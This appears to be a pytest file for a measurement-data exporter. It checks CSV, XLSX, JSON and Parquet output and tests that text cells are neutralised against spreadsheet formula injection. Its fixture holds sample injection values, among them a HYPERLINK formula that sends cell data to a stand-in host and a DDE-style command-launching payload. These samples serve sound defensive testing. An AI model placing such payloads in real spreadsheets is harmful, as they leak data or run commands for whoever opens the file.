"""Exports: every reading, overloads as words, and nothing a spreadsheet would execute."""

from __future__ import annotations

import csv
import io
import json
import sys

import numpy as np
import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from meterlab.errors import UsageError
from meterlab.export import export_sessions, guess_format, neutralise, select_sessions
from meterlab.readings import ReadingBatch, Verdict
from meterlab.store import SessionStore

EVIL = {
    "operator": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "dut_serial": "+SN-0042",
    "plan_name": "@SUM(1+1)*cmd|' /C calc'!A0",
    "notes": "-2+3",
    "station": "\tbench",
    "dut_type": "\rnode, rev \"B\"",
}
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def _session(store, *, evil=True, values=(3.30, 3.31, 3.45, 3.29, 3.30), t0=1.78e9, dut=None):
    meta = dict(EVIL) if evil else {"operator": "Ann", "dut_serial": "SN-1", "plan_name": "p"}
    if dut:
        meta["dut_serial"] = dut
    w = store.begin(**meta, plan_version="1.0", plan_sha256="ab" * 32)
    w.add_instrument(role="dmm", resource="TCPIP::h::5025::SOCKET", maker="Keysight",
                     model="34465A", serial="=MY1", firmware="A.03", cal_due="2099-01-01")
    w.add_check(check_id="3v3", title="=cmd()", function="VOLT:DC", unit="V",
                limit_text="3.3 V ±3 %", lower=3.201, upper=3.399, nominal=3.3)
    v = np.array(values, dtype=float)
    over = np.zeros(len(v), bool)
    over[1] = True
    v[1] = np.nan
    verdicts = np.where((v < 3.201) | (v > 3.399), Verdict.FAIL, Verdict.PASS).astype(np.int8)
    verdicts[1] = Verdict.OVERLOAD
    margins = np.minimum(v - 3.201, 3.399 - v)
    w.append(ReadingBatch(t=t0 + np.arange(len(v)), values=v, overload=over, range=10.0),
             check_id="3v3", verdicts=verdicts, margins=margins)
    w.append(ReadingBatch(t=t0 + 100 + np.arange(2), values=np.array([-4.7e3, np.nan]),
                          overload=np.zeros(2, bool), function="RES", unit="Ω"))
    w.finish()
    return w.id


@pytest.fixture
def store(tmp_path):
    with SessionStore(tmp_path / "s.sqlite") as s:
        yield s


def _csv_rows(path):
    with open(path, encoding="utf-8", newline="") as fh:
        lines = fh.read().split("\n")
    header = list(csv.reader(ln for ln in lines if ln.startswith("#")))
    body = list(csv.DictReader(io.StringIO("\n".join(ln for ln in lines
                                                      if not ln.startswith("#")))))
    return header, body


def _is_number(text):
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_csv_has_one_row_per_reading_and_overload_as_a_word(store, tmp_path):
    sid = _session(store)
    out = export_sessions(store, [sid], tmp_path / "x.csv")
    header, rows = _csv_rows(out)
    assert len(rows) == 7
    assert [r["value"] for r in rows[:5]] == ["3.3", "OVERLOAD", "3.45", "3.29", "3.3"]
    assert [r["verdict"] for r in rows[:5]] == ["PASS", "OVERLOAD", "FAIL", "PASS", "PASS"]
    assert rows[5]["value"] == "-4700.0" and rows[5]["unit"] == "Ω" and rows[5]["verdict"] == ""
    assert rows[6]["value"] == ""  # an ERROR reading is empty, not a number
    assert rows[0]["range"] == "10.0" and rows[5]["range"] == "AUTO"
    assert rows[0]["time_utc"].startswith("2026-05-28T")
    assert rows[1]["overload"] == "1" and rows[0]["overload"] == "0"
    text = out.read_text(encoding="utf-8")
    assert "e+37" not in text.lower() and "9.9e37" not in text.lower()
    meta = {r[0]: r[1] for r in header if len(r) > 1}
    assert meta["# session"] == sid
    assert meta["# final hash (SHA-256)"] == store.session(sid).final_hash
    assert "calibration due 2099-01-01" in meta["# instrument dmm"]


def test_csv_text_cells_are_inert(store, tmp_path):
    sid = _session(store)
    out = export_sessions(store, [sid], tmp_path / "x.csv")
    header, rows = _csv_rows(out)
    cells = [c for r in header for c in r] + [c for r in rows for c in r.values()]
    for cell in cells:
        if cell.startswith(DANGEROUS):
            assert _is_number(cell), f"live formula in CSV: {cell!r}"
    meta = {r[0]: r[1] for r in header if len(r) > 1}
    assert meta["# operator"] == "'" + EVIL["operator"]
    assert meta["# DUT serial"] == "'+SN-0042"
    assert meta["# plan"] == "'" + EVIL["plan_name"]
    assert meta["# notes"] == "'-2+3"
    # quotes and comma survive CSV quoting; the CR is spelled out to keep one line per entry
    assert meta["# DUT type"] == "'\\rnode, rev \"B\""


def test_xlsx_sheets_units_colours_and_no_formulas(store, tmp_path):
    sid = _session(store)
    out = export_sessions(store, [sid], tmp_path / "x.xlsx")
    wb = load_workbook(out)
    assert wb.sheetnames == ["Summary", "Readings", "Limits"]
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", f"formula in {ws.title}!{c.coordinate}: {c.value!r}"
                if isinstance(c.value, str) and c.value.startswith(DANGEROUS):
                    pytest.fail(f"live text in {ws.title}!{c.coordinate}: {c.value!r}")
    readings = wb["Readings"]
    head = [c.value for c in readings[1]]
    assert "value (see unit)" in head and "unit" in head  # two units in this session
    rows = list(readings.iter_rows(min_row=2, values_only=True))
    assert len(rows) == 7
    vi, ui, ve = head.index("value (see unit)"), head.index("unit"), head.index("verdict")
    assert rows[0][vi] == pytest.approx(3.30) and rows[1][vi] == "OVERLOAD"
    assert rows[6][vi] is None and rows[5][ui] == "Ω"
    assert [r[ve] for r in rows[:3]] == ["PASS", "OVERLOAD", "FAIL"]
    rules = {r.formula[0]: r for cf in readings.conditional_formatting for r in cf.rules}
    assert rules['"FAIL"'].dxf.fill.fgColor.rgb.endswith("FFC7CE")
    assert any(str(cf.sqref) == "H2:H8" for cf in readings.conditional_formatting)
    summary = {r[0]: r[1:] for r in wb["Summary"].iter_rows(values_only=True) if r and r[0]}
    assert summary["operator"][0] == "'" + EVIL["operator"]
    assert summary["final hash (SHA-256)"][0] == store.session(sid).final_hash
    limits = list(wb["Limits"].iter_rows(values_only=True))
    assert limits[1][1] == "3v3" and limits[1][2] == "'=cmd()" and limits[1][7] == 3.201


def test_xlsx_statistics_match_numpy(store, tmp_path):
    values = np.array([3.30, 0.0, 3.32, 3.28, 3.31, 3.29, 3.30])
    sid = _session(store, evil=False, values=values)
    out = export_sessions(store, [sid], tmp_path / "x.xlsx")
    rows = list(load_workbook(out)["Summary"].iter_rows(values_only=True))
    head_i = next(i for i, r in enumerate(rows) if r[0] == "session" and r[1] == "check")
    head = rows[head_i]
    stats = dict(zip(head, rows[head_i + 1], strict=False))
    good = np.delete(values, 1)  # reading 1 was an overload
    sd = good.std(ddof=1)
    assert stats["readings"] == 7 and stats["valid"] == 6 and stats["overload"] == 1
    assert stats["mean"] == pytest.approx(good.mean())
    assert stats["std dev"] == pytest.approx(sd)
    assert stats["Cp"] == pytest.approx((3.399 - 3.201) / (6 * sd))
    assert stats["Cpk"] == pytest.approx(min(3.399 - good.mean(), good.mean() - 3.201) / (3 * sd))


def test_json_is_one_document_with_metadata_and_readings(store, tmp_path):
    sid = _session(store)
    out = export_sessions(store, [sid], tmp_path / "x.json")
    doc = json.loads(out.read_text(encoding="utf-8"))
    [s] = doc["sessions"]
    assert s["id"] == sid and s["operator"] == EVIL["operator"]
    assert s["instruments"][0]["serial"] == "=MY1"
    assert s["checks"][0]["upper"] == 3.399
    assert len(s["readings"]) == 7
    r1 = s["readings"][1]
    assert r1["value"] is None and r1["overload"] is True and r1["verdict"] == "OVERLOAD"
    assert s["readings"][0]["value"] == 3.3 and s["readings"][5]["verdict"] is None


def test_parquet_round_trip_and_metadata(store, tmp_path):
    import pyarrow.parquet as pq

    sid = _session(store)
    out = export_sessions(store, [sid], tmp_path / "x.parquet")
    table = pq.read_table(out)
    assert table.num_rows == 7
    df = table.to_pandas()
    assert df["value"].isna().tolist() == [False, True, False, False, False, False, True]
    assert df["overload"].tolist()[1] and df["verdict"].astype(str).tolist()[2] == "FAIL"
    meta = json.loads(table.schema.metadata[b"meterlab"])
    assert meta["sessions"][0]["id"] == sid


def test_parquet_without_pyarrow_says_how_to_get_it(store, tmp_path, monkeypatch):
    sid = _session(store)
    monkeypatch.setitem(sys.modules, "pyarrow", None)
    with pytest.raises(UsageError, match=r"pip install 'meterlab\[parquet\]'"):
        export_sessions(store, [sid], tmp_path / "x.parquet")
    assert not list(tmp_path.glob("x.parquet*"))


def test_several_sessions_in_one_file_for_trends(store, tmp_path):
    a = _session(store, evil=False, dut="SN-1")
    b = _session(store, evil=False, dut="SN-2", t0=1.79e9)
    c = _session(store, evil=False, dut="SN-1", t0=1.80e9)
    ids = select_sessions(store, [], dut="SN-1")
    assert ids == [a, c]
    out = export_sessions(store, [a, b, c], tmp_path / "x.csv")
    header, rows = _csv_rows(out)
    assert [r["session"] for r in rows] == [a] * 7 + [b] * 7 + [c] * 7
    assert sum(1 for r in header if r and r[0] == "# session") == 3
    wb = load_workbook(export_sessions(store, [a, c], tmp_path / "x.xlsx"))
    stats = [r for r in wb["Summary"].iter_rows(values_only=True) if r[1] == "3v3"]
    assert [r[0] for r in stats] == [a[:8], c[:8]]


def test_unwritable_target_is_a_clear_error_and_leaves_nothing(store, tmp_path):
    sid = _session(store)
    with pytest.raises(UsageError, match="Could not write"):
        export_sessions(store, [sid], tmp_path / "missing" / "x.csv")
    with pytest.raises(UsageError, match="Unknown export format"):
        guess_format("x.docx", None)
    with pytest.raises(UsageError, match="Cannot tell the format"):
        guess_format("x", None)


@given(st.text(max_size=40))
def test_neutralise_makes_any_text_inert_and_keeps_it_readable(text):
    out = neutralise(text)
    assert not out.startswith(DANGEROUS)
    assert out in (text, "'" + text)


def test_json_keeps_every_digit_and_several_sessions(store, tmp_path):
    rng = np.random.default_rng(3)
    values = rng.normal(3.3, 0.01, 5)
    a = _session(store, evil=False, values=values)
    b = _session(store, evil=False, values=values + 1e-12, t0=1.79e9)
    doc = json.loads(export_sessions(store, [a, b], tmp_path / "x.json").read_text("utf-8"))
    assert [s["id"] for s in doc["sessions"]] == [a, b]
    df = store.readings(a)
    got = [r["value"] for r in doc["sessions"][0]["readings"]]
    expect = [None if np.isnan(v) else float(v) for v in df["value"]]
    assert got == expect  # exact doubles, not 15-digit approximations
    assert [r["t"] for r in doc["sessions"][1]["readings"]] == store.readings(b)["t"].tolist()


def test_open_sided_limits_export_everywhere(store, tmp_path):
    w = store.begin(operator="Ann")
    w.add_check(check_id="idd", title="current", function="CURR:DC", unit="A",
                limit_text="≤ 50 mA", lower=-np.inf, upper=0.05, nominal=None)
    w.append(ReadingBatch(t=np.arange(40.0), values=np.linspace(0.03, 0.04, 40),
                          overload=np.zeros(40, bool), function="CURR:DC", unit="A"),
             check_id="idd", verdicts=np.zeros(40, np.int8), margins=np.full(40, np.inf))
    w.finish()
    doc = json.loads(export_sessions(store, [w.id], tmp_path / "x.json").read_text("utf-8"))
    check = doc["sessions"][0]["checks"][0]
    assert check["lower"] is None and check["upper"] == 0.05
    assert doc["sessions"][0]["readings"][0]["margin"] is None
    wb = load_workbook(export_sessions(store, [w.id], tmp_path / "x.xlsx"))
    limits = list(wb["Limits"].iter_rows(values_only=True))
    assert limits[1][7] is None and limits[1][8] == 0.05
    stats = next(r for r in wb["Summary"].iter_rows(values_only=True) if r[1] == "idd")
    assert stats[-2:] == (None, None)  # no Cp/Cpk against an open side
    export_sessions(store, [w.id], tmp_path / "x.parquet")
    export_sessions(store, [w.id], tmp_path / "x.pdf")
    _, rows = _csv_rows(export_sessions(store, [w.id], tmp_path / "x.csv"))
    assert rows[0]["margin"] == "inf"
